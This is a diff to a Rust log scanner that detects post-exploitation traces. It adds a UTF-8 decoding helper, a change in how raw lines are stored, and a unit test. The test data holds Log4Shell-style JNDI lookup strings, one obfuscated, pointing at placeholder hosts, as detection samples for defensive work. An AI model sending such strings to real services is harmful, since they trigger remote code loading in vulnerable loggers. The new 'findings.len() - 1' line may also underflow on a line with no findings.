@@ -174,7 +174,7 @@ impl Hunter {
     /// Evaluates one candidate line: hits kept and the number suppressed.
     fn line_hits(&self, line: &[u8], line_number: u64, byte_offset: u64) -> (Vec<Hit>, u64) {
         let line = line.strip_suffix(b"\r").unwrap_or(line);
-        let text = String::from_utf8_lossy(line);
+        let text = utf8_lossy(line);
         let mut findings: Vec<(classify::Finding, u8)> = Vec::new();
         if let Some(trace) = classify::post_exploitation(&text) {
             findings.push((trace, 0));
@@ -183,7 +183,7 @@ impl Hunter {
         // Without escapes (most lines) the decoded text is the line: no second UTF-8 check.
         let decoded = match &decoded {
             Cow::Borrowed(_) => Cow::Borrowed(text.as_ref()),
-            Cow::Owned(bytes) => String::from_utf8_lossy(bytes),
+            Cow::Owned(bytes) => utf8_lossy(bytes),
         };
         for finding in self.evaluate_windows(&decoded) {
             if !findings.iter().any(|(f, _)| *f == finding) {
@@ -195,14 +195,15 @@ impl Hunter {
         }
         let source_ip = source::source_ip(&text);
         // A line no longer in bytes than the limit is within it in characters too: no count.
-        let raw: String = if text.len() <= self.config.max_raw_chars {
+        let mut raw: String = if text.len() <= self.config.max_raw_chars {
             text.to_string()
         } else {
             text.chars().take(self.config.max_raw_chars).collect()
         };
         let mut suppressed_count = 0;
         let mut hits = Vec::with_capacity(findings.len());
-        for (finding, decode_layers) in findings {
+        let last = findings.len() - 1;
+        for (index, (finding, decode_layers)) in findings.into_iter().enumerate() {
             let suppressed = self
                 .config
                 .suppression
@@ -216,7 +217,12 @@ impl Hunter {
             hits.push(Hit {
                 line_number,
                 byte_offset,
-                raw: raw.clone(),
+                // Most lines have one finding: it takes the line, the others copy it.
+                raw: if index == last {
+                    std::mem::take(&mut raw)
+                } else {
+                    raw.clone()
+                },
                 decoded_payload: finding.payload,
                 class: finding.class,
                 protocol: finding.target.protocol,
@@ -265,9 +271,31 @@ impl Hunter {
     }
 }
 
+/// `String::from_utf8_lossy`, with the validation of `str::from_utf8` first: it checks ASCII a
+/// word at a time, where the lossy scan goes byte by byte, and nearly every line is valid.
+fn utf8_lossy(bytes: &[u8]) -> Cow<'_, str> {
+    match std::str::from_utf8(bytes) {
+        Ok(text) => Cow::Borrowed(text),
+        Err(_) => String::from_utf8_lossy(bytes),
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn lossy_text_is_the_standard_one() {
+        for bytes in [
+            &b""[..],
+            b"plain ascii ${jndi:ldap://a.example/x}",
+            "caf\u{e9} \u{1F600}".as_bytes(),
+            b"cut \xe2\x82",
+            b"\xff\xfe${jndi:\xc0\xafldap://b.example/}",
+        ] {
+            assert_eq!(utf8_lossy(bytes), String::from_utf8_lossy(bytes));
+        }
+    }
 
     fn one(line: &str) -> Hit {
         let hits = Hunter::default().scan_line(line.as_bytes());
